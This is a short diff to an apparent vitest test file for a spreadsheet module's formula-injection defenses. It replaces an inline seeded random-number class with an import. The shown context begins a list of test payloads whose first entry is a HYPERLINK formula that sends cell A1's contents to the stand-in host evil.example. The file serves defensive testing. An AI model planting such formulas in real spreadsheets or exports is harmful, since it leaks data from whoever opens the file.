@@ -8,24 +8,10 @@
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
+import { Rng } from '../../scripts/demo-data';
 import { xlsxValue } from '../../src/lib/server/report/xlsx';
 import { looksLikeFormula, neutralizeFormula, safeCellValue, toCsv, type Cell } from '../../src/lib/spreadsheet';
 
-class Rng {
-	private s: number;
-	constructor(seed: number) {
-		this.s = seed >>> 0;
-	}
-	next(): number {
-		let t = (this.s = (this.s + 0x6d2b79f5) >>> 0);
-		t = Math.imul(t ^ (t >>> 15), t | 1);
-		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-	}
-	pick<T>(items: readonly T[]): T {
-		return items[Math.floor(this.next() * items.length)]!;
-	}
-}
 
 const PAYLOADS = [
 	'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
